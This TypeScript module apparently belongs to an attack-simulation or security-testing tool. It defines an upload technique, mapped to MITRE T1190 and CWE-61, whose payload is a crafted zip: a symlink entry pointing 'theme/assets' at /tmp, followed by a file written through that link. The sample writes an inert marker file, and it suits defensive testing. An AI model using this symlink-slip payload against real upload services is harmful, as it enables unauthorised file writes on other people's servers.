import { rawZip } from '../../../raw-zip.ts';
import { upload } from '../../../upload.ts';
import { utf8 } from '../../../utf8.ts';

/** First a link out of the folder, then a file through it. */
export const technique = upload({
  id: 'initial-access.symlink-slip-upload',
  title: 'Upload an archive that writes through a link',
  purpose: 'Checks of names find nothing; the second entry lands where the first one points.',
  mitre: ['T1190'],
  sources: [
    {
      title: 'Exploit Public-Facing Application, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1190/',
    },
    {
      title: 'CWE-61: UNIX Symbolic Link (Symlink) Following, MITRE',
      url: 'https://cwe.mitre.org/data/definitions/61.html',
    },
  ],
  contentType: 'application/zip',
  payload: () =>
    rawZip([
      { name: 'theme/assets', content: utf8('/tmp'), mode: 0o120777 },
      { name: 'theme/assets/aftertrace-was-here', content: utf8('inert\n') },
    ]),
});
